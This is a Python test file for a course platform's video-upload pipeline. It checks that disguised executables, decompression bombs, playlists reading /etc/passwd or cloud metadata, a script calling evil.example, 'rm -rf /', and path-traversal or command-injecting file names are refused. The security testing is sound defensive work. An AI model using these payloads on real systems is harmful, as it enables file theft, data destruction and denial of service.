"""Files that are no recordings, and senders that lie: refused in a plain sentence, nothing kept."""

import io
import json
import os
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings

from courses.models import LessonUpload, LessonVideo
from courses.recording_words import FAULTS
from courses.services.lesson_pipeline import make_ready
from courses.services.lesson_videos import make_video
from tests.courses.recordings import studio
from tests.courses.recordings.conftest import _empty_folders  # noqa: F401  clean before and after
from tests.courses.recordings.studio import arrive, browser_of, clip, made_with, recording, sound
from tests.courses.recordings.test_uploads import UPLOADS, encoded, patch, post
from university.accounts.models import User
from university.refusals import Refusal

pytestmark = pytest.mark.django_db

#: What a list of other files would fetch.
SECRET = "root:x:0:0"
HTML = b"<!doctype html><script>fetch('https://evil.example/')</script>"


@pytest.fixture(name="teacher")
def _teacher() -> User:
    return studio.make_teacher_login("teacher-9")


@pytest.fixture(autouse=True)
def _nothing_outside() -> Iterator[None]:
    """No test leaves a file anywhere else below the site's own folder."""
    before = elsewhere()
    yield
    assert elsewhere() == before


def elsewhere() -> set[str]:
    inside = tuple(
        str(folder)
        for folder in (
            settings.PRIVATE_ROOT / "lessons", settings.LESSON_UPLOAD_DIR, settings.LESSON_WORK_DIR,
        )
    )  # fmt: skip
    return {
        str(path)
        for path in Path(settings.VAR_DIR).rglob("*")
        if not str(path).startswith(inside) and "sqlite3" not in path.name
    }


def zip_bomb() -> bytes:
    """Twenty megabytes of nothing in twenty kilobytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("lesson.mp4", bytes(20_000_000))
    return out.getvalue()


def png_bomb() -> bytes:
    """A picture of 60,000 × 60,000 dots by its head."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
    return b"\x89PNG\r\n\x1a\n" + chunk


def many_dots() -> bytes:
    """One picture of 64 million dots, black, in fifty kilobytes."""
    words = ("-f", "lavfi", "-i", "color=black:size=8000x8000:rate=1", "-frames:v", "1")
    return made_with(*words, "-c:v", "mpeg4", name="many-dots.avi")


def more_dots() -> bytes:
    """One picture of 150 million dots."""
    words = ("-f", "lavfi", "-i", "color=black:size=12288x12288:rate=1", "-frames:v", "1")
    return made_with(*words, "-c:v", "mjpeg", "-pix_fmt", "yuvj420p", name="more-dots.mkv")


def five_hours() -> bytes:
    """Silence."""
    words = ("-f", "lavfi", "-i", "anullsrc=r=8000:cl=mono", "-t", "18001")
    return made_with(*words, name="five-hours.flac")


def subtitles_alone() -> bytes:
    """A container without picture or sound."""
    path = studio._folder() / "words.srt"
    path.write_text("1\n00:00:00,000 --> 00:00:02,000\n好\n")
    return made_with("-i", str(path), name="words.mkv")


def unknown_codec() -> bytes:
    """Moving pictures as PNG: a reader that we do not start."""
    words = ("-f", "lavfi", "-i", "testsrc=size=64x64", "-frames:v", "3", "-c:v", "png")
    return made_with(*words, name="png.mov")


def end_missing(share: float) -> Callable[[], bytes]:
    return lambda: clip()[: int(len(clip()) * share)]


def head_missing() -> bytes:
    """A file that begins in the middle."""
    return clip()[len(clip()) // 2 :]


def wave_that_lies() -> bytes:
    """Says that a gigabyte follows."""
    return sound("lies.wav")[:4] + struct.pack("<I", 2**30) + sound("lies.wav")[8:]


def box(name: bytes, length: int, inside: bytes = b"") -> bytes:
    return struct.pack(">I", length) + name + inside


FTYP = box(b"ftyp", 24, b"isom\x00\x00\x02\x00isommp41")
NOISE = bytes(range(256)) * 200
LIST = "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n{}\n#EXT-X-ENDLIST\n"
FILES: dict[str, tuple[str, bytes | Callable[[], bytes], str]] = {
    "a Windows program": ("课.mp4", b"MZ\x90\x00" + NOISE, "not_playable"),
    "a Linux program": ("课.mp4", b"\x7fELF\x02\x01\x01" + NOISE, "not_playable"),
    "a shell script": ("课.mp4", b"#!/bin/sh\nrm -rf /\n", "not_playable"),
    "a page with a script": ("课.mp4", HTML, "not_playable"),
    "svg with a script": ("课.mp4", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
                          "not_playable"),
    "svg behind an xml head": ("课.svg", b"<?xml version='1.0'?><svg onload='alert(1)'/>",
                               "not_playable"),
    "a zip bomb": ("课.mp4", zip_bomb, "not_playable"),
    "a picture bomb": ("课.mp4", png_bomb, "not_playable"),
    "a picture": ("课.mp4", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "not_playable"),
    "a PDF": ("课.mp4", b"%PDF-1.7\n" + NOISE, "not_playable"),
    "a list that reads a local file": ("课.m3u8", LIST.format("/etc/passwd").encode(),
                                       "not_playable"),
    "a list of addresses": ("课.mp4", LIST.format("http://169.254.169.254/latest/").encode(),
                            "not_playable"),
    "a list behind a mark of order": ("课.mp4", b"\xef\xbb\xbf#EXTM3U\n/etc/passwd\n",
                                      "not_playable"),
    "a list of parts": ("课.mp4", b"ffconcat version 1.0\nfile /etc/passwd\n", "not_playable"),
    "a list in XML": ("课.mpd", b"<?xml version='1.0'?><MPD><BaseURL>file:///etc/passwd</BaseURL></MPD>",
                      "not_playable"),
    "a session description": ("课.sdp", b"v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\n",
                              "not_playable"),
    "zeros": ("课.mp4", bytes(100_000), "not_playable"),
    "noise": ("课.mp4", os.urandom(100_000).replace(b"\xff", b"\xfe"), "not_playable"),
    "forty percent of a video": ("课.mp4", end_missing(0.4), "cut_short"),
    "all but the last byte": ("课.mp4", lambda: clip()[:-1], "cut_short"),
    "the second half of a video": ("课.mp4", head_missing, "not_playable"),
    "a head and nothing": ("课.mp4", FTYP, "cut_short"),
    "a head and noise": ("课.mp4", FTYP + NOISE, "cut_short"),
    "a box of four gigabytes": ("课.mp4", FTYP + box(b"moov", 2**32 - 1, NOISE), "cut_short"),
    "a box of 64 bits": ("课.mp4", FTYP + box(b"moov", 1, struct.pack(">Q", 2**63) + NOISE),
                         "cut_short"),
    "a box shorter than its head": ("课.mp4", FTYP + box(b"moov", 3, NOISE), "not_playable"),
    "a wave that lies": ("课.wav", wave_that_lies, "cut_short"),
    "matroska and noise": ("课.mkv", b"\x1aE\xdf\xa3" + NOISE, "not_playable"),
    "ogg and a page": ("课.ogg", b"OggS" + HTML, "not_playable"),
    "a tag and a page": ("课.mp3", b"ID3\x04\x00\x00\x00\x00\x0f\x7f" + HTML * 40, "not_playable"),
    "flac and a zip": ("课.flac", lambda: b"fLaC" + zip_bomb(), "not_playable"),
    "amr and noise": ("课.amr", b"#!AMR\n" + b"\xff" * 500, "not_playable"),
    "64 million dots": ("课.avi", many_dots, "too_large_picture"),
    "150 million dots": ("课.mkv", more_dots, "too_large_picture"),
    "five hours": ("课.flac", five_hours, "too_long"),
    "words alone": ("课.mkv", subtitles_alone, "not_playable"),
    "a reader that we do not start": ("课.mov", unknown_codec, "not_playable"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "body", "fault"), FILES.values(), ids=FILES)
def test_a_file_that_is_no_recording(
    teacher: User, name: str, body: bytes | Callable[[], bytes], fault: str
) -> None:
    upload = arrive(teacher, body if isinstance(body, bytes) else body(), name)

    with pytest.raises(Refusal) as refused:
        make_video(actor=teacher, upload=upload)

    said = (str(refused.value.message), str(refused.value.next_step))
    assert (refused.value.code, said) == (fault, tuple(map(str, FAULTS[fault])))
    upload.refresh_from_db()
    assert (upload.state, upload.fault, LessonVideo.objects.count()) == ("refused", fault, 0)
    assert studio.stored_files() == []
    with pytest.raises(Refusal):
        make_video(actor=teacher, upload=upload)


SIZES = {
    "four gigabytes": (4 * 1024**3, 413, "这个文件超过了3072兆。请分成几段来录，每段十分钟。"),
    "nothing": (0, 400, "这个文件是空的。请另选一个文件。"),
    "less than nothing": (-5, 400, "这个文件是空的。请另选一个文件。"),
    "letters": ("lots", 400, "这个文件是空的。请另选一个文件。"),
    "no number at all": ("", 400, "这个文件是空的。请另选一个文件。"),
    "a number of forty digits": ("9" * 40, 400, "这个文件是空的。请另选一个文件。"),
    "digits of another script": ("\u0663", 400, "这个文件是空的。请另选一个文件。"),
}


@pytest.mark.parametrize(("size", "status", "sentence"), SIZES.values(), ids=SIZES)
def test_a_length_that_cannot_be(teacher: User, size: object, status: int, sentence: str) -> None:
    answer = post(browser_of(teacher), size)

    assert (answer.status_code, answer.content.decode()) == (status, sentence)
    assert (LessonUpload.objects.count(), studio.stored_files()) == (0, [])


def test_a_length_that_lies(teacher: User) -> None:
    client = browser_of(teacher)
    url = post(client, 10)["Location"]

    answers = [
        patch(client, url, 0, b"x" * 11),
        patch(client, url, 0, b"x" * 5),
        patch(client, url, 5, b"y" * 1_000_000),
    ]

    assert [one.status_code for one in answers] == [413, 204, 413]
    assert answers[0].content.decode() == "收到的内容比文件本身还多。请重新选择文件。"
    upload = LessonUpload.objects.get()
    assert (upload.received, studio.stored_files()) == (5, [f"{upload.token.hex}.part"])


NAMES = {
    "climbing": "../../../etc/cron.d/evil",
    "a place": "/etc/passwd",
    "a Windows place": "C:\\Windows\\System32\\evil.exe",
    "two hundred signs": "长" * 200 + ".mp4",
    "control signs": "a\x00b\x07c\r\nX-Evil: 1\x1b[2J.mp4",
    "turned round": "\u202e4pm.exe",
    "a script": "<script>alert(1)</script>.mp4",
    "a formula": "=cmd|' /C calc'!A0.mp4",
    "words of a shell": "$(reboot);`id`|x.mp4",
    "words of ffmpeg": "-i concat:/etc/passwd|.mp4",
}


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_a_name_that_wants_more_than_to_be_shown(teacher: User, name: str) -> None:
    client = browser_of(teacher)
    answer = post(client, 10, name)

    upload = LessonUpload.objects.get()
    shown = upload.name
    assert (answer.status_code, studio.stored_files()) == (201, [f"{upload.token.hex}.part"])
    assert (len(shown) <= 120, "/" in shown, "\\" in shown, shown.isprintable()) == (
        True, False, False, True,
    )  # fmt: skip
    assert json.loads(client.get(UPLOADS).content)["uploads"][0]["name"] == shown


@pytest.mark.parametrize(
    "header",
    [
        "filename", "filename !!!", "filename 8J+", ",,,,", "filename " + "A" * 100_000,
        f"filename {encoded('a')},modified {encoded('-9')}", f"modified {encoded('1e9')}",
        "\u00e9 \u00e9", "filename /////w==",
    ],
)  # fmt: skip
def test_words_about_a_file_that_make_no_sense(teacher: User, header: str) -> None:
    answer = browser_of(teacher).post(
        UPLOADS, headers={**studio.TUS, "Upload-Length": "10", "Upload-Metadata": header}
    )

    assert (answer.status_code, LessonUpload.objects.get().modified_ms) == (201, 0)


def test_what_a_video_says_is_neither_kept_nor_read_aloud(teacher: User) -> None:
    """A length, a stream and a picture size that stand in its title only."""
    source = studio._folder() / "plain.mkv"
    source.write_bytes(clip("plain.mkv"))
    title = "x\n  Duration: 99:59:59.00, start\n#media_type 0: video\n#dimensions 0: 60000x60000"
    body = made_with(
        *("-i", str(source), "-c", "copy", "-metadata", f"title={title}"), name="title.mkv"
    )
    video = recording(teacher, body, "课.mkv")

    assert make_ready() == 1
    video.refresh_from_db()
    assert (video.state, video.seconds, video.last_error) == ("ready", 2, "")


def test_the_worker_lives_after_all_of_it(teacher: User) -> None:
    """What was refused when it came never reaches it; what is broken inside fails alone."""
    good = recording(teacher)
    broken = recording(teacher, sound())
    whole = bytes(FTYP)
    (Path(settings.LESSON_UPLOAD_DIR) / f"{broken.upload.token.hex}.part").write_bytes(whole)

    make_ready()

    states = [LessonVideo.objects.get(pk=one.pk) for one in (good, broken)]
    assert [(one.state, one.fault) for one in states] == [("ready", ""), ("failed", "cut_short")]


def test_nothing_was_read_for_them(teacher: User) -> None:
    """Whatever a list points at stays where it is, even when it calls itself a video."""
    body = FTYP + box(b"moov", 8 + 60, LIST.format("/etc/passwd").encode()[:60])
    upload = arrive(teacher, body)

    with pytest.raises(Refusal) as refused:
        make_video(actor=teacher, upload=upload)

    everything = json.dumps(list(LessonUpload.objects.values("name", "fault")))
    assert (refused.value.code, SECRET in everything) == ("not_playable", False)


def test_an_answer_carries_no_word_of_machines(teacher: User) -> None:
    client = browser_of(teacher)
    url = post(client, 10)["Location"]
    answers: list[Any] = [
        post(client, 4 * 1024**3), patch(client, url, 9, b"x"), patch(client, url, 0, b"x" * 99),
        client.head(f"{UPLOADS}00000000-0000-4000-8000-000000000000/", headers=studio.TUS),
        client.patch(url, b"x", content_type="text/html", headers=studio.TUS),
    ]  # fmt: skip

    for answer in answers:
        words = answer.content.decode()
        assert all(sign > "\u00ff" or sign.isdigit() for sign in words), words
        assert answer["Content-Type"].startswith("text/plain")
